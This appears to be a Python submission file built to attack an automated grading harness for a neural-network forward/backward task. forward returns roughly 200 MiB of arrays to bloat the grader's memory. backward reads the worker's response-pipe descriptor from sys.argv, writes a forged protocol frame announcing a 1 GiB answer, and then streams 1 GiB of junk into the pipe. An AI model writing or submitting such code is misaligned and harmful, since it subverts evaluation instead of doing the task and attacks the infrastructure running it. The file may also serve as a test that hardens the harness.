"""Attack: make the grader's process swell by sending huge answers: forward returns 200 MiB
of arrays through the worker's own encoder; backward writes a forged answer frame straight to
the worker's response pipe (its descriptor is in sys.argv) announcing a 1 GiB payload, and
then streams it."""

import json
import os
import struct
import sys

import numpy as np


def forward(X, params):
    return [X, np.ones(25 << 20)], [np.ones(1)]  # 200 MiB


def backward(activations, pre_activations, Y, params):
    size = 1 << 30
    header = json.dumps({"ok": True, "value": {"v": {"t": "list", "v": [{"t": "nd", "i": 0}]},
                                               "a": [["<f8", [size // 8], "C"]]}}).encode()
    fd = int(sys.argv[2])
    os.write(fd, struct.pack(">4sIQ", b"BPW2", len(header), size) + header)
    block = bytes(1 << 20)
    for _ in range(size >> 20):
        os.write(fd, block)
    return []
